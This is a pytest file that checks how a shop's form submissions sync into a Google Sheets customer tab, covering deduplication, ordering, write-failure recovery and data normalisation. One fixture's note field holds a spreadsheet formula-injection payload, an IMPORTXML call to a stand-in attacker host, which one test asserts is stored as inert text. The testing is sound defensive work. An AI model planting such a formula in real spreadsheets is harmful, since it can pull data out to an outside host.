"""A form, from somebody's click to a row that the team works on: once, as text, whatever breaks."""

from __future__ import annotations

from typing import Any

import pytest

from tests.shop import AMEI, Shop

MEI = {"name": "王小美", "phone": "１３８００１３８０００", "note": '=IMPORTXML("https://evil.example","//a")'}


def customers(shop: Shop) -> list[list[Any]]:
    return [row for row in shop.tab("客户").get_all_values()[1:] if any(row)]


def test_form_becomes_a_row(shop: Shop) -> None:
    shop.onboarded()
    accepted = shop.submit("join", MEI).json()
    assert shop.sync()["delivered"] == 1
    (row,) = customers(shop)
    assert row[:2] == ["王小美", "13800138000"] and accepted["id"] in row
    assert shop.sync()["delivered"] == 0  # the new row is reckoned into the derived tabs
    assert shop.sync()["outcome"] == "unchanged"


def test_formula_stays_a_text(shop: Shop) -> None:
    shop.onboarded()
    shop.submit("join", MEI)
    shop.sync()
    sheet = shop.tab("客户")
    found = sheet.find(MEI["note"])
    assert found is not None
    formula = sheet.cell(found.row, found.col, value_render_option="FORMULA")  # type: ignore[arg-type]
    grid = shop.sheet().fetch_sheet_metadata({"includeGridData": "true", "ranges": f"客户!{formula.address}"})
    (cell,) = grid["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert cell["userEnteredValue"] == {"stringValue": MEI["note"]}


def test_row_lands_below_the_first(shop: Shop) -> None:
    shop.onboarded()
    shop.tab("客户", AMEI).update([["甲", "13900139000"], ["乙", "13700137000"]], "A2", raw=True)
    shop.submit("join", MEI)
    shop.sync()
    assert [row[0] for row in customers(shop)] == ["甲", "王小美", "乙"]


def test_message_sent_twice_is_one(shop: Shop) -> None:
    shop.onboarded()
    shop.submit("join", MEI)
    shop.sync()
    assert shop.submit("join", MEI).json()["duplicate"]
    assert shop.sync()["delivered"] == 0
    assert len(customers(shop)) == 1


def test_forms_keep_their_order(shop: Shop) -> None:
    shop.onboarded()
    for number in range(5):
        shop.clock.sleep(1)
        shop.submit("join", {"name": f"客{number}"}, message=f"m{number}")
    assert shop.sync()["delivered"] == 5
    assert [row[0] for row in customers(shop)] == [f"客{number}" for number in range(5)]


@pytest.mark.parametrize("when", ["before", "after"])
def test_lost_write_delivers_once(shop: Shop, when: str) -> None:
    """Also where nobody can say at first whether the write arrived, and the process dies of it."""
    shop.onboarded()
    shop.sync()
    shop.submit("join", MEI)
    shop.fault("spreadsheets.batchUpdate", when=when, manner="reset")
    shop.fault("spreadsheets.developerMetadata.get", status=503)
    assert shop.call("POST", f"/v1/stores/{shop.stores[-1]['id']}/sync").status_code == 503
    shop.restart()
    shop.sync()
    assert [row[0] for row in customers(shop)] == ["王小美"]
    assert shop.sync()["delivered"] == 0


def test_delivered_form_is_history(shop: Shop) -> None:
    shop.onboarded()
    shop.submit("order", {"date": "2024年3月5日", "customer": "13800138000", "quantity": "２", "paid": "256元"})
    shop.sync()
    assert [item["kind"] for item in shop.items("changes")] == ["submission"]
    (row,) = (row for row in shop.tab("订单").get_all_values()[1:] if any(row))
    assert row[1] == "2024-03-05" and row[5] == "2"
